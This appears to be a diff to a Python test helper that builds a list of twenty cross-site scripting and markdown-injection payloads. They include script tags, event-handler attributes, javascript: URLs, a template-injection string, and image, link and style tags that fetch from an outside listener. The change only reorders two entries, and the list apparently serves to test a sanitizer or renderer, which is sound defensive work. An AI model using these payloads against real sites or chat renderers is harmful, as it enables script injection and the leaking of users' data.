@@ -30,11 +30,11 @@ def payloads(listener: str) -> list[str]:
     """Twenty ways in which text was, or could be, taken for more than text; `listener` counts what is fetched."""
     run = "window.pwned=1"
     return [
-        f"<script>{run}</script>", f"<img src=x onerror={run}>", f"<svg onload={run}>",
+        f"<script>{run}</script>", f"<img src={listener}/t>", f"<svg onload={run}>",
         f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>', f'<iframe src="javascript:parent.{run}"></iframe>',
         f"<a href=javascript:{run}>Normal</a>", f"[Normal](javascript:{run})", f"<details open ontoggle={run}>",
         f"<object data=javascript:{run}>", f"<embed src={listener}/e>", f"<link rel=stylesheet href={listener}/l>",
-        f"![a]({listener}/i)", f"[![a]({listener}/b)]({listener}/c)", f"<img src={listener}/t>",
+        f"![a]({listener}/i)", f"[![a]({listener}/b)]({listener}/c)", f"<img src=x onerror={run}>",
         f"![a][r]\n\n[r]: {listener}/r", f"<style>@import url({listener}/s)</style>",
         f"<video poster={listener}/v autoplay>", f'" onmouseover="{run}', "{{constructor.constructor('1')()}}",
         f"<base href={listener}/>",
